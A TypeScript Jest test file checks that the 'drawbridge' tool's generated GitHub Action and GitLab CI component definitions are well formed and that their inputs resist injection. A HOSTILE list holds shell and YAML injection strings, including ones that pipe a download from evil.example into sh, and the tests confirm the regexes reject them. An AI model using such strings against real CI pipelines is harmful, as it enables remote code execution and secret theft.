import { execFile } from 'node:child_process';
import { cp, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { parse } from 'yaml';
import { COMMAND_NAMES, type CommandName, PIPELINE_COMMANDS } from '../../src/inputs/commands.ts';
import { inputsOf } from '../../src/inputs/definitions.ts';
import { variableName } from '../../src/inputs/names.ts';
import { outputsOf } from '../../src/inputs/outputs.ts';
import { renderAction } from '../../src/inputs/render-action.ts';
import { renderComponent } from '../../src/inputs/render-component.ts';
import { renderHelp } from '../../src/inputs/render-help.ts';
import { renderInputsPage, renderReadmeTable, replaceBetweenMarkers } from '../../src/inputs/render-markdown.ts';
import { accepts, interpolate, type Job, readComponent } from '../support/component.ts';

const run = promisify(execFile);

const namesOf = (command?: CommandName) => inputsOf(command).map(({ name }) => name);

interface ActionFile {
  readonly name: string;
  readonly description: string;
  readonly branding: { readonly icon: string; readonly color: string };
  readonly inputs: Readonly<
    Record<string, { readonly description: string; readonly required: boolean; readonly default?: string }>
  >;
  readonly outputs: Readonly<Record<string, { readonly description: string }>>;
  readonly runs: { readonly using: string; readonly main: string };
}

describe('action.yml', () => {
  it('of the repository takes the command and every input of every command', () => {
    const action = parse(renderAction()) as ActionFile;
    expect(Object.keys(action.inputs)).toEqual(['command', ...namesOf()]);
    const post = { post: 'dist/post.js', 'post-if': 'always()' };
    expect(action.runs).toEqual({ using: 'node24', main: 'dist/action.js', ...post });
    for (const command of COMMAND_NAMES) expect(action.inputs.command?.description).toContain(command);
    const required = Object.entries(action.inputs).filter(([, { required }]) => required);
    expect(required.map(([name]) => name)).toEqual(['command']);
  });

  it.each(PIPELINE_COMMANDS)('of %s has exactly its inputs and outputs', (command) => {
    const action = parse(renderAction(command)) as ActionFile;
    expect(Object.keys(action.inputs)).toEqual(['command', ...namesOf(command)]);
    expect(action.inputs.command).toMatchObject({ required: false, default: command });
    expect(Object.keys(action.outputs)).toEqual(outputsOf(command).map(({ name }) => name));
    const post = { post: '../../dist/post.js', 'post-if': 'always()' };
    const tells = namesOf(command).includes('environment');
    expect(action.runs).toEqual({ using: 'node24', main: '../../dist/action.js', ...(tells ? post : {}) });
  });

  it.each([undefined, ...PIPELINE_COMMANDS])('has only keys that GitHub knows (%s)', (command) => {
    const action = parse(renderAction(command)) as ActionFile;
    expect(Object.keys(action)).toEqual(['name', 'description', 'branding', 'inputs', 'outputs', 'runs']);
    expect(action.description.length).toBeLessThan(160);
    for (const [name, input] of Object.entries(action.inputs)) {
      const isFixed = command !== undefined && name === 'command';
      expect(Object.keys(input)).toEqual(['description', 'required', ...(isFixed ? ['default'] : [])]);
      expect(typeof input.required).toBe('boolean');
      expect(input.description).not.toContain('${{');
    }
    for (const output of Object.values(action.outputs)) expect(Object.keys(output)).toEqual(['description']);
  });

  it('tells defaults in words and gives none that the runner would apply', () => {
    const action = parse(renderAction('wait')) as ActionFile;
    expect(action.inputs.timeout?.description).toBe('Deadline for all targets together. Default: 10m.');
    expect(action.inputs['argocd-server']).toEqual({
      description: expect.stringMatching(
        / Required with engine: argocd and argocd-access: server, unless the variable ARGOCD_SERVER is set\.$/,
      ),
      required: false,
    });
    expect(action.inputs.revision?.required).toBe(false);
  });
});

const HOSTILE = [
  'a"\n    EVIL: x',
  '"; curl https://evil.example | sh; "',
  '$[[ inputs.image ]]',
  '$(curl https://evil.example)',
  '`id`',
  'a\\',
  '\\u0022',
  "a'b",
  '$$[[ inputs.image ]]',
  'a$',
  '${{ secrets.TOKEN }}\0',
  'a\rb',
  'a\tb',
  '\u001b[2J',
];

/** What a job hands to GitLab besides its outputs. */
const JOB_REPORTS: { readonly [C in CommandName]?: Readonly<Record<string, string>> } = {
  validate: { codequality: 'drawbridge-codequality.json', junit: 'drawbridge-junit.xml' },
};

describe.each(PIPELINE_COMMANDS)('the component %s', (command) => {
  const component = readComponent(renderComponent(command, '1.2.3'));
  const required = Object.fromEntries(
    Object.entries(component.inputs).flatMap(([name, input]) => (input.default === undefined ? [[name, 'given']] : [])),
  );
  const shape = structure(interpolate(component, required));

  const isDeployment = component.inputs.environment !== undefined;
  const dashboard = isDeployment ? ['dashboard-agent', 'dashboard-namespace', 'dashboard-flux-resource'] : [];

  it('takes every input but secrets and the dotenv file, and some about the job', () => {
    const own = inputsOf(command).filter(({ name, definition }) => !definition.secret && name !== 'output');
    expect(Object.keys(component.inputs)).toEqual([
      'job-name',
      'stage',
      'image',
      'drawbridge',
      ...dashboard,
      ...own.map(({ name }) => name),
    ]);
  });

  it('bounds every string by options or a regular expression that its own default passes', () => {
    for (const input of Object.values(component.inputs)) {
      expect(input.description).toMatch(/\.$/);
      if (input.type === 'string')
        expect([input.options, input.regex].filter((limit) => limit !== undefined)).toHaveLength(1);
      if (input.regex !== undefined) expect(input.regex).toMatch(/^\^.*\$$/);
      if (input.default !== undefined) expect(accepts(input, input.default)).toBe(true);
    }
  });

  it('is mandatory only where the command cannot do without it', () => {
    const mandatory = { validate: ['paths'], bump: [], wait: [], deliver: [] };
    expect(Object.keys(required)).toEqual(mandatory[command]);
    for (const name of Object.keys(required))
      expect(component.inputs[name] && accepts(component.inputs[name], '')).toBe(false);
  });

  it('hands values over in quoted variables and never in the script', () => {
    const blocks = component.body.split('\n').filter((line) => line.includes('$[['));
    for (const line of blocks.filter((line) => !/^ +(environment|name): \$\[\[ inputs\.environment \]\]$/.test(line)))
      expect(line).toMatch(
        /^ *(- )?("?[A-Za-z_]+"?: )?"(\.\$\[\[ inputs\.job-name \]\]:[a-z-]+:|[a-z=. -]+ )?(\$\[\[ inputs\.[a-z-]+ \]\])?":?$/,
      );
    const [job] = Object.values(interpolate(component, required)) as [Job];
    expect(job.script).toEqual([`$DRAWBRIDGE_PROGRAM ${command} --output "$PWD/drawbridge.env"`]);
    expect(job.artifacts).toEqual({ when: 'always', reports: { dotenv: 'drawbridge.env', ...JOB_REPORTS[command] } });
    const entries = Object.entries(JOB_REPORTS[command] ?? {}).map(([kind, file]) => `${kind}=${file}`);
    expect(job.variables.DRAWBRIDGE_REPORTS?.trim()).toBe(entries.join(' '));
    const variables = Object.keys(component.inputs)
      .slice(4 + dashboard.length)
      .map(variableName);
    expect(Object.keys(job.variables)).toEqual(['DRAWBRIDGE_PROGRAM', 'DRAWBRIDGE_LIST_SEPARATOR', ...variables]);
  });

  it('adds one job under the wanted name and nothing global', () => {
    const pipeline = interpolate(component, {
      ...required,
      'job-name': 'to production',
      stage: 'release',
      image: 'tools:1',
    });
    expect(Object.keys(pipeline)).toEqual(['to production']);
    expect(pipeline['to production']).toMatchObject({
      stage: 'release',
      image: { name: 'tools:1', entrypoint: [''] },
      variables: { DRAWBRIDGE_PROGRAM: 'npx --yes drawbridge@1.2.3' },
    });
  });

  it.each(HOSTILE)('refuses %j in every string', (text) => {
    for (const [name, input] of Object.entries(component.inputs)) {
      expect([name, accepts(input, text)]).toEqual([name, false]);
      expect([name, accepts(input, `ok${text}`)]).toEqual([name, false]);
    }
  });

  it('takes line breaks in lists only', () => {
    for (const { name, definition } of inputsOf(command)) {
      const input = component.inputs[name];
      if (input?.regex !== undefined)
        expect([name, accepts(input, 'a\nb')]).toEqual([name, definition.kind === 'list']);
    }
    for (const name of ['job-name', 'stage', 'image', 'drawbridge', ...dashboard]) {
      expect(component.inputs[name] && accepts(component.inputs[name], 'a\nb')).toBe(false);
    }
  });

  it('takes what people write', () => {
    const texts: Readonly<Record<string, readonly string[]>> = {
      images: [
        '$CI_REGISTRY_IMAGE:$CI_COMMIT_SHORT_SHA',
        'api=ghcr.io/a/b:1\nghcr.io/a/c@sha256:00\n',
        '${IMAGE}:1.2',
        '[::1]:5000/a:1',
      ],
      files: ['apps/**/*.yaml\n!apps/[ab]/{x,y}.yml'],
      paths: ['kubernetes/', '**/*.y?ml', '-'],
      author: ['Release Bot <bot@example.com>', '$GITLAB_USER_NAME <$GITLAB_USER_EMAIL>'],
      'commit-message': ['chore(shop): 1.4.2; see #12 & !7', 'Größe geändert'],
      revision: ['$DRAWBRIDGE_OUT_REVISION', 'a'.repeat(64)],
      environment: ['production', 'review/$CI_COMMIT_REF_SLUG', '${TIER}/eu west', ''],
      timeout: ['10m', '1h30m5s', '$TIMEOUT', '${TIMEOUT}', ''],
      'argocd-server': ['https://argocd.example.com:8443/argo', '$ARGOCD_HOST'],
      'config-repository': [
        'git@gitlab.example.com:acme/config.git',
        'https://gitlab.example.com/$GROUP/config.git',
        '../config',
      ],
      image: ['$CI_REGISTRY_IMAGE/tools@sha256:00ff', '${CI_REGISTRY}/node:24-slim'],
      drawbridge: ['node dist/cli.js', 'npx --yes drawbridge@~0.1', 'node $CI_PROJECT_DIR/cli.js'],
    };
    for (const [name, values] of Object.entries(texts)) {
      const input = component.inputs[name];
      for (const value of values) if (input) expect([name, value, accepts(input, value)]).toEqual([name, value, true]);
    }
  });

  it('is a deployment where it is given an environment, and none otherwise', () => {
    const input = component.inputs.environment;
    if (input === undefined) return expect(component.body).not.toContain('environment:');
    const environmentOf = (values: object) =>
      Object.values(interpolate(component, { ...required, ...values })).map((job) => Object(job).environment);
    expect(environmentOf({ environment: 'review/$CI_COMMIT_REF_SLUG' })).toEqual(['review/$CI_COMMIT_REF_SLUG']);
    expect(environmentOf({})).toEqual([null]);
    for (const value of ['a: b', 'a #b', '- a', '1', '[a]', '{a: b}', '"a"', '&a', '!a']) {
      expect([value, accepts(input, value)]).toEqual([value, false]);
    }
  });

  it('has a dashboard of GitLab where that is asked for, with no more than was given', () => {
    if (!isDeployment) return expect(component.body).not.toContain('environment:');
    const environmentOf = (values: object) =>
      Object.values(interpolate(component, { ...required, environment: 'production', ...values })).map(
        (job) => job.environment,
      );
    const agent = 'acme/agents:production';
    const path = 'kustomize.toolkit.fluxcd.io/v1/namespaces/flux-system/kustomizations/shop';
    const [first, second, third] = [
      { 'dashboard-agent': agent },
      { 'dashboard-namespace': 'shop-$CI_COMMIT_REF_SLUG' },
      { 'dashboard-flux-resource': path },
    ];
    expect(environmentOf(first)).toEqual([{ name: 'production', kubernetes: { agent } }]);
    expect(environmentOf({ ...first, ...second })).toEqual([
      { name: 'production', kubernetes: { agent, dashboard: { namespace: 'shop-$CI_COMMIT_REF_SLUG' } } },
    ]);
    const whole = { namespace: 'shop-$CI_COMMIT_REF_SLUG', flux_resource_path: path };
    expect(environmentOf({ ...first, ...second, ...third })).toEqual([
      { name: 'production', kubernetes: { agent, dashboard: whole } },
    ]);
    return undefined;
  });

  it('keeps its shape whatever passes the regular expressions', () => {
    const pieces = [
      '"',
      "'",
      '\\',
      '\n',
      ' ',
      '#',
      ':',
      '- ',
      '$',
      '[[',
      '{',
      '}',
      '---',
      '...',
      '&a',
      '*a',
      '!!x',
      '%',
      'a',
      '1',
      '\u0085',
      '\t',
    ];
    const text = fc.array(fc.constantFrom(...pieces), { maxLength: 12 }).map((parts) => parts.join(''));
    const strings = Object.entries(component.inputs).filter(
      ([name, { regex }]) => regex !== undefined && name !== 'job-name' && !dashboard.includes(name),
    );
    let taken = 0;
    fc.assert(
      fc.property(fc.constantFrom(...strings), text, ([name, input], value) => {
        fc.pre(accepts(input, value));
        taken++;
        let pipeline: ReturnType<typeof interpolate>;
        try {
          pipeline = interpolate(component, { ...required, [name]: value });
        } catch {
          return; // No YAML at all is no pipeline at all: a document marker at the start of a line.
        }
        expect(structure(pipeline)).toEqual(shape);
      }),
      { numRuns: 400 },
    );
    expect(taken).toBeGreaterThan(100);
  });
});

/** Keys and kinds of values, and every text that no input reaches. Without a text the environment is null, and none. */
function structure(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(structure);
  if (typeof value !== 'object' || value === null) return typeof value;
  const entries = Object.entries(value).map(([key, inner]) => {
    const isScalar = key === 'environment' && (typeof inner !== 'object' || inner === null);
    return [key, isScalar ? 'one scalar' : structure(inner)];
  });
  return Object.fromEntries(entries);
}

describe('help', () => {
  it.each(COMMAND_NAMES)('of %s names every input and stays within 100 columns', (command) => {
    const text = renderHelp(command);
    for (const { name, definition } of inputsOf(command)) {
      expect(text).toContain(definition.secret ? `\n  ${variableName(name)} ` : `\n  --${name}`);
      if (definition.secret) expect(text).not.toContain(`--${name} `);
    }
    expect(Math.max(...text.split('\n').map((line) => line.length))).toBeLessThanOrEqual(100);
    expect(text).toMatch(/\nExample\n {2}drawbridge /);
  });

  it('of the program names every command', () => {
    for (const command of COMMAND_NAMES) expect(renderHelp()).toMatch(new RegExp(`^  ${command} +[A-Z]`, 'm'));
    expect(
      Math.max(
        ...renderHelp()
          .split('\n')
          .map((line) => line.length),
      ),
    ).toBeLessThanOrEqual(100);
  });
});

describe('the Markdown tables', () => {
  it('name every input, variable and output, with as many cells as the head has', () => {
    const page = renderInputsPage();
    for (const { name } of [...inputsOf(), ...outputsOf()]) expect(page).toContain(`| \`${name}\` |`);
    const cells = (line: string) => line.replaceAll('\\|', '').split('|').length;
    for (const block of [...page.split('\n\n'), renderReadmeTable()].filter((part) => part.startsWith('|'))) {
      expect(new Set(block.trimEnd().split('\n').map(cells)).size).toBe(1);
    }
  });

  it('go between the markers and leave everything else alone', () => {
    expect(replaceBetweenMarkers('a\n<!-- t -->\nold\n<!-- /t -->\nb\n', 't', 'new')).toBe(
      'a\n<!-- t -->\n\nnew\n\n<!-- /t -->\nb\n',
    );
    expect(replaceBetweenMarkers('<!-- /t --><!-- t -->', 't', 'new')).toBeUndefined();
  });
});

describe('npm run generate', () => {
  const script = join(process.cwd(), 'scripts/generate.ts');
  let folder: string;
  const generate = (cwd: string, ...args: string[]) =>
    run(process.execPath, [script, ...args], { cwd }).then(
      ({ stdout, stderr }) => ({ code: 0, stdout, stderr }),
      (error: { code: number; stdout: string; stderr: string }) => error,
    );

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'generate-'));
    await cp('package.json', join(folder, 'package.json'));
    await writeFile(join(folder, 'README.md'), '# Mine\n<!-- inputs -->\n<!-- /inputs -->\n');
  });

  afterAll(() => rm(folder, { recursive: true }));

  it('has been run: every rendered file is as it must be', async () => {
    expect(await generate(process.cwd(), '--check')).toMatchObject({ code: 0, stderr: '' });
  });

  it('writes all files, then finds nothing to do, then names the one that somebody edited', async () => {
    expect((await generate(folder, '--check')).stderr).toMatch(
      /^action\.yml is stale\n[\s\S]*README\.md is stale\nRun: npm run generate\n$/,
    );
    expect((await generate(folder)).stdout.trim().split('\n')).toHaveLength(11);
    expect(await readFile(join(folder, 'README.md'), 'utf8')).toMatch(/^# Mine\n<!-- inputs -->\n\n\| Input /);
    expect(await generate(folder, '--check')).toMatchObject({ code: 0 });
    await mkdir(join(folder, 'templates'), { recursive: true });
    await writeFile(join(folder, 'templates/bump.yml'), 'edited\n');
    expect(await generate(folder, '--check')).toMatchObject({
      code: 1,
      stderr: 'templates/bump.yml is stale\nRun: npm run generate\n',
    });
    expect(await readFile(join(folder, 'templates/bump.yml'), 'utf8')).toBe('edited\n');
  });
});
